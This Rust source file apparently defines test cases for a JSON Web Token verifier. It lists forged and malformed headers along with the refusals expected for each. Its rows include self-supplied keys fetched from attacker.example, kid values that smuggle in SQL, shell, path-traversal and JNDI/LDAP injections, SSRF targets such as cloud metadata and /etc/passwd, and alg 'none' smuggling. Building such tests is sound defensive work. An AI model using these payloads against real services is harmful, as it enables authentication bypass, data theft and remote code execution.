//! What a header asks for, and hides.

use super::{Attack, Inspected, joining};
use crate::forge::{Damage, Recipe, encode, hmac_sha256};

const FORGED: &[&str] = &["wrong-signature"];
const PARAMETER: &[&str] = &["header-parameter"];

pub fn rows() -> Vec<Attack> {
    let mut rows = asked_for();
    rows.extend(own_keys());
    rows.extend(again());
    rows.extend(unencoded());
    rows
}

/// Rightly signed; a server ignores whatever else a header says.
fn asked_for() -> Vec<Attack> {
    let row = |name: &str, more: &str| {
        Attack::header(format!("header: {name}"), format!(r#"{{"alg":"HS256",{more}}}"#))
    };
    vec![
        row("crit names what is not there", r#""crit":["http://example.com/x"]"#).breaches(PARAMETER),
        row("crit names alg", r#""crit":["alg"]"#).breaches(PARAMETER),
        row("crit is null", r#""crit":null"#).breaches(PARAMETER),
        row("crit is a string", r#""crit":"exp""#).breaches(PARAMETER),
        row("crit is an object", r#""crit":{"exp":true}"#).breaches(PARAMETER),
        row("crit names a thing twice", r#""crit":["x","x"],"x":1"#).breaches(PARAMETER),
        row("crit escaped", r#""\u0063rit":["x"],"x":1"#).breaches(PARAMETER),
        // Names are told apart by case: this is no `crit`, and a server has none either.
        row("CRIT", r#""CRIT":["x"],"x":1"#),
        row("b64 false without crit", r#""b64":false"#).breaches(PARAMETER),
        row("b64 false with crit", r#""crit":["b64"],"b64":false"#)
            .breaches(&["header-parameter", "header-parameter"]),
        row("b64 true", r#""b64":true"#),
        row("b64 as text", r#""b64":"false""#),
        row("zip of nothing", r#""zip":null"#).breaches(PARAMETER),
        row("enc, as if encrypted", r#""enc":"A256GCM""#),
        row("jku of a number", r#""jku":5"#).breaches(PARAMETER),
        row("x5u of an array", r#""x5u":["https://example.com"]"#).breaches(PARAMETER),
        row("kid of an object", r#""kid":{"$ne":null}"#).breaches(PARAMETER),
        row("kid of a number", r#""kid":0"#).breaches(PARAMETER),
        row("__proto__", r#""__proto__":{"alg":"none"}"#),
        row("constructor", r#""constructor":{"prototype":{"alg":"none"}}"#),
        row("a header within", r#""header":{"alg":"none"}"#),
        row("verify false", r#""verify":false,"verify_signature":false"#),
        row("iss of another key", r#""iss":"otherkey","sub":"root""#),
        row("kid of 100 KiB", &format!(r#""kid":"{}""#, "k".repeat(100 * 1024))),
        row("jku of this machine", r#""jku":"http://127.0.0.1:1/keys","x5u":"file:///etc/passwd""#),
        row("jku of a cloud's metadata", r#""jku":"http://169.254.169.254/latest/meta-data/""#),
    ]
}

/// A key that the token brings along, or names, and is signed with.
fn own_keys() -> Vec<Attack> {
    let row = |name: &str, secret: &[u8], more: &str| {
        let header = format!(r#"{{"alg":"HS256",{more}}}"#).into_bytes();
        let recipe = Recipe { header, secret: secret.to_vec(), ..Recipe::new(joining("")) };
        Attack::new(format!("own key: {name}"), recipe).refused(FORGED).inspected(Inspected::Invalid)
    };
    vec![
        row("jwk", b"attacker", r#""jwk":{"kty":"oct","alg":"HS256","k":"YXR0YWNrZXI"}"#),
        row("jwk that is empty", b"", r#""jwk":{"kty":"oct","k":""}"#),
        row("jku", b"attacker", r#""jku":"https://attacker.example/jwks.json","kid":"0""#),
        row("x5c", b"attacker", r#""x5c":["YXR0YWNrZXI="]"#),
        row("x5u", b"attacker", r#""x5u":"https://attacker.example/cert.pem""#),
        row("kid of an empty file", b"", r#""kid":"/dev/null""#),
        row("kid of a known file", b"", r#""kid":"../../../../../../../dev/null\u0000.pem""#),
        row("kid of SQL", b"attacker", r#""kid":"x' UNION SELECT 'attacker';-- ""#),
        row("kid of a command", b"attacker", r#""kid":"| echo attacker""#),
        row("kid of a template", b"attacker", r#""kid":"${jndi:ldap://attacker.example/a}""#),
        row("kid of another key", b"other", r#""kid":"devkey""#),
    ]
}

/// A member twice; the last counts.
fn again() -> Vec<Attack> {
    let row = |name: &str, header: &str| {
        Attack::header(format!("header twice: {name}"), header).breaches(&["duplicate-member"])
    };
    vec![
        row("typ", r#"{"alg":"HS256","typ":"JWT","typ":"JWT"}"#),
        row("alg, the first escaped", r#"{"\u0061lg":"none","alg":"HS256"}"#),
        row("alg, the last escaped", r#"{"alg":"HS256","\u0061lg":"none"}"#)
            .refused(&["wrong-algorithm"])
            .inspected(Inspected::Invalid),
        row("alg a hundred times", &format!(r#"{{{}"alg":"HS256"}}"#, r#""alg":"none","#.repeat(99))),
        row("within another member", r#"{"alg":"HS256","x":{"a":1,"a":2}}"#),
        // They differ in case, so there is one of each.
        row("alg and ALG", r#"{"ALG":"none","alg":"HS256","aLg":"none"}"#).breaches(&[]),
        row("alg with a long s of nothing", "{\"alg\":\"HS256\",\"al\u{261}\":\"none\"}").breaches(&[]),
    ]
}

/// RFC 7797: the payload stands as it is. A server has never heard of that.
fn unencoded() -> Vec<Attack> {
    let header = encode(br#"{"alg":"HS256","b64":false,"crit":["b64"]}"#);
    let payload = r#"{"iss":"devkey","sub":"alice"}"#;
    let signed = |input: String| {
        let mac = hmac_sha256(crate::forge::SECRET, input.as_bytes());
        format!("{input}.{}", encode(mac))
    };
    let row = |name: &str, token: String| {
        Attack::new(format!("unencoded: {name}"), Recipe { damage: Damage::Forged(token), ..Recipe::new("") })
            .breaches(&["header-parameter", "header-parameter"])
            .inspected(Inspected::NoToken("its payload is not base64url"))
            .refused(&["bad-base64url"])
            .renewed(super::Renewed::Refused("the token's payload is not base64url"))
    };
    vec![
        row("payload", signed(format!("{header}.{payload}"))),
        // Detached (RFC 7515 appendix F): nothing stands there.
        row("payload detached", signed(format!("{header}.")))
            .refused(&["bad-json"])
            .inspected(Inspected::NoToken("its payload is not JSON"))
            .renewed(super::Renewed::Refused("the token's payload is not JSON")),
    ]
}
